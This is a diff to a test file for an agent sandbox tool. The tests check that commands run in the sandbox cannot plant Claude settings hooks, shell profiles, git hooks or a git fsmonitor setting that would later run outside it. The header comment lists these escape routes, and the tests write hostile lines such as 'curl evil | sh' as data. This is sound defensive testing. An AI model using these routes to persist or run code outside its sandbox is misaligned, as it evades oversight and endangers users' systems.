@@ -3,13 +3,14 @@
  * writable working tree let `mkdir -p .claude && echo '{"hooks":…}' >
  * .claude/settings.json` plant hooks the agent runs outside the sandbox the
  * next time, and with the home as the working tree `~/.bash_profile`,
- * `~/.config/fish/config.fish` and `~/.local/bin/ls` could be made. Each row
+ * `~/.config/fish/config.fish` and `~/.local/bin/ls` could be made, and the
+ * hooks of every project below it written. Each row
  * ran for real through `permc run` (bubblewrap) and changed the file system
  * outside the sandbox before the placeholders; the checks read it from
  * outside.
  */
-import { spawn } from "node:child_process";
-import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import { spawn, spawnSync } from "node:child_process";
+import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import { beforeEach, describe, expect, it } from "vitest";
 import { makePlaceholders, moveAsideWatched } from "../../runtime/sandbox/placeholders.js";
@@ -139,6 +140,25 @@ describe("the home as the working tree", () => {
     expect(readFileSync(path.join(home, moved[0] as string), "utf8")).toBe("curl evil | sh\n");
     expect(ran.out).toContain(`the command made ${path.join(home, ".bash_profile")}, a protected file; moved aside to`);
     expect(ran.status).toBe(0);
+  }, 30_000);
+
+  it("the projects below keep their hooks and configuration, a hooks directory not there included", async () => {
+    const gitInit = (dir: string): void => {
+      mkdirSync(dir, { recursive: true });
+      expect(spawnSync("git", ["init", "-q", "."], { cwd: dir }).status).toBe(0);
+    };
+    gitInit(path.join(home, "work", "a"));
+    gitInit(path.join(home, "work", "deep", "b"));
+    rmSync(path.join(home, "work", "deep", "b", ".git", "hooks"), { recursive: true });
+    const before = readFileSync(path.join(home, "work", "a", ".git", "config"), "utf8");
+    await run(
+      "echo evil > work/a/.git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> work/a/.git/config; mkdir -p work/deep/b/.git/hooks; echo evil > work/deep/b/.git/hooks/post-checkout; echo ok > work/a/notes.txt",
+      home,
+    );
+    expect(existsSync(path.join(home, "work", "a", ".git", "hooks", "pre-commit"))).toBe(false);
+    expect(readFileSync(path.join(home, "work", "a", ".git", "config"), "utf8")).toBe(before);
+    expect(contents(path.join(home, "work", "deep", "b", ".git", "hooks"))).toEqual([]);
+    expect(readFileSync(path.join(home, "work", "a", "notes.txt"), "utf8")).toBe("ok\n");
   }, 30_000);
 
   it("a directory on PATH under a writable root, not there, cannot be made", async () => {
